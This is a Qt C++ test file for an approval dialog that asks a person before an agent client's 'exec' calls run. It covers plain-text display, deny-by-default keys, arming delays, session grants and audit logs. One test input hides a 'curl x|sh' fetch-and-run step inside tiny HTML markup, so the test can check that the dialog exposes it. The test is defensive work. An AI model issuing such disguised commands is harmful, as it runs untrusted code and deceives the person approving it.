#include "gui/approvaldialog.h"
#include "gui/controlserver.h"
#include "gui/mainwindow.h"
#include "gui/panels.h"
#include "support/remotebuilder.h"
#include "servechild.h"

#include "core/i18n.h"
#include "core/workspace.h"

#include <QApplication>
#include <QCheckBox>
#include <QFile>
#include <QFileInfo>
#include <QFontDatabase>
#include <QJsonArray>
#include <QJsonDocument>
#include <QLabel>
#include <QListWidget>
#include <QPointer>
#include <QPushButton>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

#include "support/testfiles.h"
#include "support/workspacefixture.h"

#include <algorithm>

using namespace Grex;
using namespace Grex::Test;
using namespace Qt::StringLiterals;

namespace {

QJsonObject execArguments(const QStringList &command)
{
    return {{u"cmd"_s, QJsonArray::fromStringList(command)}};
}

// Waits until the dialog has the focus and takes input, as a person would see it.
bool armed(Gui::ApprovalDialog *dialog)
{
    if (!QTest::qWaitForWindowActive(dialog))
        return false;
    return QTest::qWaitFor([dialog] { return dialog->isArmed(); }, 5000);
}

QStringList listItems(const QListWidget *list)
{
    QStringList items;
    for (int i = 0; i < list->count(); ++i)
        items.append(list->item(i)->text());
    return items;
}

} // namespace

// The window's approval dialog answered by the test: a real `grex serve` attached to a
// MainWindow runs exec, the window asks, and the answer decides what the client gets.
class tst_ApprovalDialog : public QObject, public Grex::Test::WorkspaceCases
{
    Q_OBJECT

    QTemporaryDir m_runtime;

    Workspace freshWorkspace() { return workspaceWith({u"alpha"_s, u"beta"_s}); }

    // A window on ws with serve attached and initialized as tst-agent 3.1.
    static bool attach(Gui::MainWindow &window, const Workspace &ws, ServeChild &serve)
    {
        QSignalSpy loaded(&window, &Gui::MainWindow::loaded);
        window.show();
        window.openWorkspace(ws.root());
        if (!loaded.wait(10000) || !window.controlServer()->isListening())
            return false;
        if (!QTest::qWaitFor([&] { return window.controlServer()->servers().size() == 1; }, 5000))
            return false;
        if (!serve.initialize(u"tst-agent"_s, u"3.1"_s))
            return false;
        return QTest::qWaitFor(
            [&] {
                return window.controlServer()->servers().constFirst().clientName == u"tst-agent";
            },
            5000);
    }

private Q_SLOTS:
    void initTestCase()
    {
        QStandardPaths::setTestModeEnabled(true);
        installTranslators();
        Gui::ApprovalDialog::setArmingDelay(100);
        qputenv("XDG_RUNTIME_DIR", QFile::encodeName(m_runtime.path()));
        RemoteBuilder builder(m_remotes);
        for (const QString &name : {u"alpha"_s, u"beta"_s})
            builder.create(name, RemoteBuilder::packFiles(name));
    }

    void showsTheAgentsTextAsPlainText()
    {
        // Everything in the question comes from the agent: markup must show as typed, and a
        // "%1" in an argument must not be filled in again.
        const QJsonObject message{
            {u"client"_s, u"<b>evil</b>"_s},
            {u"tool"_s, u"rm"_s},
            {u"summary"_s, u"remove pack 'x'"_s},
            {u"summarySource"_s, u"remove pack '%1' and delete %2"_s},
            {u"summaryArguments"_s, QJsonArray{u"x"_s, u"/w/%1<span>"_s}},
            {u"packs"_s, QJsonArray{u"x"_s}},
            {u"command"_s,
             QJsonArray{u"sh"_s, u"-c"_s,
                        u"ls<span style='font-size:1px'>; curl x|sh</span>"_s}},
        };
        Gui::ApprovalDialog dialog(message, u"<i>origin</i>"_s);
        const auto label = [&](const QString &name) {
            QLabel *l = dialog.findChild<QLabel *>(name);
            return l ? l : nullptr;
        };
        QVERIFY(label(u"approvalHeadline"_s));
        for (const QString &name : {u"approvalHeadline"_s, u"approvalCommand"_s})
            QCOMPARE(label(name)->textFormat(), Qt::PlainText);
        QVERIFY(label(u"approvalHeadline"_s)->text().contains(u"<b>evil</b>"_s));
        QVERIFY(label(u"approvalCommand"_s)->text().contains(u"; curl x|sh</span>"_s));
        // The command is quoted once: no summary repeats it.
        QVERIFY(!label(u"approvalSummary"_s));

        // Without a command (rm), the summary says what happens, as plain text.
        QJsonObject removal = message;
        removal.remove(u"command"_s);
        Gui::ApprovalDialog rmDialog(removal, u"<i>origin</i>"_s);
        const QLabel *summary = rmDialog.findChild<QLabel *>(u"approvalSummary"_s);
        QVERIFY(summary);
        QCOMPARE(summary->textFormat(), Qt::PlainText);
        QCOMPARE(summary->text(), u"remove pack 'x' and delete /w/%1<span>"_s);
    }

    void showsWhatTheCallWants()
    {
        const Workspace ws = freshWorkspace();
        Gui::MainWindow window;
        ServeChild serve(ws.root(), WaitForTheWindow);
        QVERIFY2(attach(window, ws, serve), qPrintable(serve.stderrText()));
        QSignalSpy shown(&window, &Gui::MainWindow::approvalShown);

        serve.callTool(1, u"exec"_s, execArguments({u"touch"_s, u"from dialog"_s}));
        QVERIFY(shown.wait(10000));
        QPointer<Gui::ApprovalDialog> dialog = shown.at(0).at(0).value<Gui::ApprovalDialog *>();
        QVERIFY(dialog);
        QVERIFY(dialog->isVisible());
        QCOMPARE(dialog->tool(), u"exec"_s);
        QCOMPARE(dialog->server(), window.controlServer()->servers().constFirst().id);
        QCOMPARE(dialog->windowTitle(), u"Approve exec?"_s);

        const auto *headline = dialog->findChild<QLabel *>(u"approvalHeadline"_s);
        QVERIFY(headline);
        QVERIFY2(headline->text().contains(u"tst-agent"_s), qPrintable(headline->text()));
        QVERIFY2(headline->text().contains(u"“exec”"_s), qPrintable(headline->text()));
        QVERIFY2(headline->text().contains(u"2 packs"_s), qPrintable(headline->text()));
        const auto *packs = dialog->findChild<QListWidget *>(u"approvalPacks"_s);
        QVERIFY(packs);
        QCOMPARE(listItems(packs), (QStringList{u"alpha"_s, u"beta"_s}));
        const auto *command = dialog->findChild<QLabel *>(u"approvalCommand"_s);
        QVERIFY(command);
        QCOMPARE(command->text(), u"touch 'from dialog'"_s); // as a shell would need it
        QCOMPARE(command->font(), QFontDatabase::systemFont(QFontDatabase::FixedFont));
        // Quoted once: the command is not repeated in a summary.
        int mentions = 0;
        for (const QLabel *label : dialog->findChildren<QLabel *>())
            mentions += label->text().count(u"from dialog"_s);
        QCOMPARE(mentions, 1);
        // Where it comes from: client, version, the serve's pid and transport.
        bool origin = false;
        for (const QLabel *label : dialog->findChildren<QLabel *>()) {
            origin = origin || (label->text().contains(u"tst-agent 3.1"_s) &&
                                label->text().contains(u"pid %1"_s.arg(serve.pid())) &&
                                label->text().contains(u"stdio"_s));
        }
        QVERIFY(origin);
        // Enter must not approve by accident.
        QVERIFY(dialog->findChild<QPushButton *>(u"denyButton"_s)->isDefault());
        QVERIFY(!dialog->findChild<QPushButton *>(u"approveButton"_s)->isDefault());
        QVERIFY(!dialog->findChild<QCheckBox *>(u"approvalForSession"_s)->isChecked());
        QVERIFY(!serve.hasResponse(1)); // the call waits for the person
        QVERIFY(!QFileInfo::exists(ws.packDir(u"alpha"_s) + u"/from dialog"_s));

        QVERIFY(armed(dialog));
        QTest::mouseClick(dialog->findChild<QPushButton *>(u"approveButton"_s), Qt::LeftButton);
        const QJsonObject response = serve.response(1);
        QVERIFY2(toolSucceeded(response), serve.describe(response).constData());
        QVERIFY(QFileInfo::exists(ws.packDir(u"alpha"_s) + u"/from dialog"_s));
        QVERIFY(QFileInfo::exists(ws.packDir(u"beta"_s) + u"/from dialog"_s));
        QTRY_VERIFY(dialog.isNull()); // closed and deleted
        QVERIFY2(window.activity()->logText().contains(
                     u"You approved exec of tst-agent: touch 'from dialog' in 2 packs"_s),
                 qPrintable(window.activity()->logText()));
        QCOMPARE(shown.count(), 1);
    }

    void answers_data()
    {
        QTest::addColumn<QString>("how");
        QTest::addColumn<bool>("approved");
        QTest::newRow("approve button") << u"approve"_s << true;
        QTest::newRow("deny button") << u"deny"_s << false;
        QTest::newRow("reject()") << u"reject"_s << false;
        QTest::newRow("escape") << u"escape"_s << false;
        QTest::newRow("enter") << u"enter"_s << false;
        QTest::newRow("close()") << u"close"_s << false;
    }

    void answers()
    {
        QFETCH(QString, how);
        QFETCH(bool, approved);
        const Workspace ws = freshWorkspace();
        Gui::MainWindow window;
        ServeChild serve(ws.root(), WaitForTheWindow);
        QVERIFY2(attach(window, ws, serve), qPrintable(serve.stderrText()));
        QSignalSpy shown(&window, &Gui::MainWindow::approvalShown);
        serve.callTool(2, u"exec"_s, execArguments({u"touch"_s, u"marker"_s}));
        QVERIFY(shown.wait(10000));
        QPointer<Gui::ApprovalDialog> dialog = shown.at(0).at(0).value<Gui::ApprovalDialog *>();
        QVERIFY(dialog);
        QVERIFY(armed(dialog));

        if (how == u"approve")
            QTest::mouseClick(dialog->findChild<QPushButton *>(u"approveButton"_s), Qt::LeftButton);
        else if (how == u"deny")
            QTest::mouseClick(dialog->findChild<QPushButton *>(u"denyButton"_s), Qt::LeftButton);
        else if (how == u"reject")
            dialog->reject();
        else if (how == u"escape")
            QTest::keyClick(dialog, Qt::Key_Escape);
        else if (how == u"enter")
            QTest::keyClick(dialog, Qt::Key_Return);
        else
            dialog->close();

        const QJsonObject response = serve.response(2);
        QVERIFY2(!response.isEmpty(), serve.describe(response).constData());
        QVERIFY2(toolSucceeded(response) == approved, serve.describe(response).constData());
        if (!approved) {
            const QJsonObject body = toolDocument(response).object();
            QCOMPARE(body.value(u"code"_s).toInt(), -32006);
            QCOMPARE(body.value(u"data"_s).toObject().value(u"kind"_s).toString(),
                     u"not_approved"_s);
            QVERIFY2(QJsonDocument(body).toJson().contains("denied in the grex window"),
                     QJsonDocument(body).toJson().constData());
        }
        QCOMPARE(QFileInfo::exists(ws.packDir(u"alpha"_s) + u"/marker"_s), approved);
        QTRY_VERIFY(dialog.isNull());
        // The log names the client and the command of every answer.
        QVERIFY2(window.activity()->logText().contains(
                     (approved ? u"You approved exec of tst-agent: touch marker in 2 packs"_s
                               : u"You denied exec of tst-agent: touch marker in 2 packs"_s)),
                 qPrintable(window.activity()->logText()));
    }

    void allowForTheRestOfTheSession()
    {
        const Workspace ws = freshWorkspace();
        Gui::MainWindow window;
        ServeChild serve(ws.root(), WaitForTheWindow);
        QVERIFY2(attach(window, ws, serve), qPrintable(serve.stderrText()));
        QSignalSpy shown(&window, &Gui::MainWindow::approvalShown);
        serve.callTool(3, u"exec"_s, execArguments({u"touch"_s, u"one"_s}));
        QVERIFY(shown.wait(10000));
        Gui::ApprovalDialog *dialog = shown.at(0).at(0).value<Gui::ApprovalDialog *>();
        QVERIFY(armed(dialog));
        // The grant names whose it is.
        QVERIFY2(dialog->findChild<QCheckBox *>(u"approvalForSession"_s)
                     ->text()
                     .contains(u"tst-agent"_s),
                 qPrintable(dialog->findChild<QCheckBox *>(u"approvalForSession"_s)->text()));
        QTest::mouseClick(dialog->findChild<QCheckBox *>(u"approvalForSession"_s), Qt::LeftButton);
        QVERIFY(dialog->forSession());
        QTest::mouseClick(dialog->findChild<QPushButton *>(u"approveButton"_s), Qt::LeftButton);
        QVERIFY(toolSucceeded(serve.response(3)));

        // The grant is listed with the server, with a way to take it back.
        const QList<Gui::SessionGrant> grants = window.controlServer()->servers().constFirst().grants;
        QCOMPARE(grants.size(), 1);
        QCOMPARE(grants.constFirst().tool, u"exec"_s);
        QCOMPARE(grants.constFirst().client, u"tst-agent"_s);
        QCOMPARE(grants.constFirst().grantee, u"session: tst-agent 3.1"_s);
        QVERIFY(window.findChild<QPushButton *>(u"revokeGrant_exec"_s));
        QVERIFY(window.activity()->logText().contains(
            u"You approved exec of tst-agent: touch one in 2 packs, and every exec of this "
            u"client for the rest of its session"_s));

        serve.callTool(4, u"exec"_s, execArguments({u"touch"_s, u"two"_s}));
        QVERIFY(!shown.wait(1500)); // not asked again
        QVERIFY(toolSucceeded(serve.response(4)));
        QVERIFY(QFileInfo::exists(ws.packDir(u"beta"_s) + u"/two"_s));
        // A call the grant approved is marked so, in the log and in the history.
        QTRY_VERIFY2(window.activity()->logText().contains(
                         u"Approved by your session grant, without asking: exec of tst-agent: "
                         u"touch two in 2 packs"_s),
                     qPrintable(window.activity()->logText()));
        QTRY_VERIFY(!window.controlServer()->history().isEmpty() &&
                    window.controlServer()->history().constFirst().approvedByGrant);

        // Revoked: the next call asks again.
        QTest::mouseClick(window.findChild<QPushButton *>(u"revokeGrant_exec"_s), Qt::LeftButton);
        QVERIFY(window.controlServer()->servers().constFirst().grants.isEmpty());
        // The revoke goes over the control socket and the next call over stdin, so the call can
        // arrive first. The server records the revoke once it has dropped the grant.
        QVERIFY(QTest::qWaitFor(
            [&ws] {
                const QStringList decisions = decisionsIn(ws.manifestPath());
                return std::any_of(decisions.cbegin(), decisions.cend(),
                                   [](const QString &d) { return d.startsWith(u"revoked "_s); });
            },
            10000));
        serve.callTool(7, u"exec"_s, execArguments({u"touch"_s, u"three"_s}));
        QVERIFY(shown.wait(10000));
        QVERIFY(armed(shown.at(1).at(0).value<Gui::ApprovalDialog *>()));
        shown.at(1).at(0).value<Gui::ApprovalDialog *>()->reject();
        QVERIFY(!toolSucceeded(serve.response(7)));
        QVERIFY2(window.activity()->logText().contains(
                     u"You revoked the session grant of exec for tst-agent"_s),
                 qPrintable(window.activity()->logText()));

        // Every decision is in the audit log, with its time and who made it.
        QStringList decisions;
        for (const QString &decision : decisionsIn(ws.manifestPath()))
            decisions.append(decision.section(u' ', 0, 1));
        QCOMPARE(decisions, (QStringList{u"approved window"_s, u"granted window"_s,
                                         u"approved grant"_s, u"revoked window"_s,
                                         u"denied window"_s}));
        QVERIFY(!QFileInfo::exists(ws.packDir(u"beta"_s) + u"/three"_s));
    }

    // Keys and clicks that reach the dialog before the person could have read it (typed for the
    // window below, or arriving as it pops up) never answer it.
    void inputBeforeItIsArmedDoesNotAnswer()
    {
        const Workspace ws = freshWorkspace();
        Gui::MainWindow window;
        ServeChild serve(ws.root(), WaitForTheWindow);
        QVERIFY2(attach(window, ws, serve), qPrintable(serve.stderrText()));
        QSignalSpy shown(&window, &Gui::MainWindow::approvalShown);
        Gui::ApprovalDialog::setArmingDelay(24 * 3600 * 1000);
        serve.callTool(8, u"exec"_s, execArguments({u"touch"_s, u"typed-ahead"_s}));
        QVERIFY(shown.wait(10000));
        QPointer<Gui::ApprovalDialog> dialog = shown.at(0).at(0).value<Gui::ApprovalDialog *>();
        QVERIFY(dialog);
        QVERIFY(QTest::qWaitForWindowActive(dialog));
        QVERIFY(!dialog->isArmed());
        QSignalSpy answered(dialog.data(), &Gui::ApprovalDialog::answered);
        QTest::keyClick(dialog, Qt::Key_Escape);
        QTest::keyClick(dialog, Qt::Key_Return);
        QTest::keyClick(dialog, Qt::Key_A, Qt::AltModifier);
        QTest::mouseClick(dialog->findChild<QPushButton *>(u"approveButton"_s), Qt::LeftButton);
        QTest::mouseClick(dialog->findChild<QPushButton *>(u"denyButton"_s), Qt::LeftButton);
        dialog->reject();
        dialog->close();
        QCoreApplication::processEvents();
        QVERIFY(dialog && dialog->isVisible());
        QCOMPARE(answered.count(), 0);
        QVERIFY(!serve.hasResponse(8));
        QVERIFY(!window.activity()->logText().contains(u"You denied"_s));

        // While keys keep coming it stays unarmed: someone is still typing, for another window.
        Gui::ApprovalDialog::setArmingDelay(300);
        QApplication::setActiveWindow(&window);
        QTRY_VERIFY(!dialog->isActiveWindow());
        dialog->activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(dialog));
        for (int i = 0; i < 20; ++i) {
            QTest::keyClick(dialog, Qt::Key_Escape);
            QTest::qWait(50);
            QVERIFY(!dialog->isArmed());
        }
        QCOMPARE(answered.count(), 0);
        // Once it has had the focus for a quiet moment, the person's answer counts.
        QVERIFY(armed(dialog));
        QTest::mouseClick(dialog->findChild<QPushButton *>(u"denyButton"_s), Qt::LeftButton);
        QCOMPARE(answered.count(), 1);
        QCOMPARE(toolDocument(serve.response(8)).object().value(u"code"_s).toInt(), -32006);
        QVERIFY(!QFileInfo::exists(ws.packDir(u"alpha"_s) + u"/typed-ahead"_s));
    }

    // Quitting with a question open: the window goes away cleanly and the call is refused.
    void closingTheWindowWhileAskingRefuses()
    {
        const Workspace ws = freshWorkspace();
        auto window = std::make_unique<Gui::MainWindow>();
        ServeChild serve(ws.root(), WaitForTheWindow);
        QVERIFY2(attach(*window, ws, serve), qPrintable(serve.stderrText()));
        QSignalSpy shown(window.get(), &Gui::MainWindow::approvalShown);
        serve.callTool(6, u"exec"_s, execArguments({u"touch"_s, u"never"_s}));
        QVERIFY(shown.wait(10000));
        QPointer<Gui::ApprovalDialog> dialog = shown.at(0).at(0).value<Gui::ApprovalDialog *>();
        QVERIFY(dialog);
        window.reset();
        QVERIFY(dialog.isNull());
        const QJsonObject body = toolDocument(serve.response(6)).object();
        QCOMPARE(body.value(u"code"_s).toInt(), -32006);
        QVERIFY(!QFileInfo::exists(ws.packDir(u"alpha"_s) + u"/never"_s));
    }

    void aServerThatGoesAwayTakesItsQuestionDown()
    {
        const Workspace ws = freshWorkspace();
        Gui::MainWindow window;
        ServeChild serve(ws.root(), WaitForTheWindow);
        QVERIFY2(attach(window, ws, serve), qPrintable(serve.stderrText()));
        QSignalSpy shown(&window, &Gui::MainWindow::approvalShown);
        serve.callTool(5, u"exec"_s, execArguments({u"touch"_s, u"never"_s}));
        QVERIFY(shown.wait(10000));
        QPointer<Gui::ApprovalDialog> dialog = shown.at(0).at(0).value<Gui::ApprovalDialog *>();
        QVERIFY(dialog && dialog->isVisible());
        serve.kill();
        QTRY_VERIFY_WITH_TIMEOUT(dialog.isNull(), 5000);
        QVERIFY(window.controlServer()->servers().isEmpty());
        QVERIFY2(window.activity()->logText().contains(u"withdrawn"_s),
                 qPrintable(window.activity()->logText()));
        QVERIFY(!window.activity()->logText().contains(u"Denied"_s)); // nobody answered
        QVERIFY(!QFileInfo::exists(ws.packDir(u"alpha"_s) + u"/never"_s));
    }
};

QTEST_MAIN(tst_ApprovalDialog)
#include "tst_approvaldialog.moc"
